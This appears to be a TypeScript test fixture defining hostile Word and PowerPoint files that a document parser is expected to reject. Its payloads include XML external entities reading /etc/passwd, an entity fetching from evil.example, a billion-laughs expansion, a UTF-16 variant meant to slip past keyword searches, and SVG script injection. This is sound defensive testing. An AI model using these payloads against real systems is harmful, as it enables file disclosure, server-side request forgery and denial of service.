import type { Hostile } from './hostile.ts'
import { office, wordBody } from './office.ts'

const withBody =
  (body: string | Buffer): Hostile['bytes'] =>
  () =>
    office({ body })
const doctype = (inside: string) => wordBody().replace('?>', `?><!DOCTYPE d [${inside}]>`)

/** What XML can do to whoever reads it trustingly. */
export const xmlTricks: Hostile[] = [
  {
    what: 'an entity from a file',
    name: 'xxe.docx',
    refused: 'runs something',
    bytes: withBody(doctype('<!ENTITY x SYSTEM "file:///etc/passwd">')),
  },
  {
    what: 'an entity from an address',
    name: 'ssrf.docx',
    refused: 'runs something',
    bytes: withBody(doctype('<!ENTITY % x SYSTEM "http://evil.example/x">%x;')),
  },
  {
    what: 'a billion laughs',
    name: 'laughs.docx',
    refused: 'runs something',
    bytes: withBody(doctype('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">')),
  },
  {
    what: 'the same in two bytes a letter, where a search for the word finds nothing',
    name: 'wide.docx',
    refused: 'runs something',
    bytes: withBody(
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(doctype('<!ENTITY a "b">'), 'utf16le')]),
    ),
  },
  {
    what: 'an entity in a part that nobody thinks of',
    name: 'notes.docx',
    refused: 'runs something',
    bytes: () =>
      office({
        parts: [
          {
            name: 'customXml/item1.xml',
            data: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
          },
        ],
      }),
  },
  {
    what: 'an alphabet that few read',
    name: 'utf7.docx',
    refused: 'damaged',
    bytes: withBody(wordBody().replace('UTF-8', 'UTF-7')),
  },
  {
    what: 'XML that is not well formed',
    name: 'broken.docx',
    refused: 'damaged',
    bytes: withBody(wordBody('<w:p><w:r>')),
  },
  {
    what: 'a drawing with a script within a Word file',
    name: 'drawing.docx',
    refused: 'runs something',
    bytes: () =>
      office({
        parts: [
          {
            name: 'word/media/image1.svg',
            data: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
          },
        ],
      }),
  },
  {
    what: 'a drawing that acts when it is pointed at',
    name: 'pointed.pptx',
    refused: 'runs something',
    bytes: () =>
      office({ kind: 'pptx', parts: [{ name: 'ppt/media/image1.svg', data: '<svg onload="alert(1)"/>' }] }),
  },
]
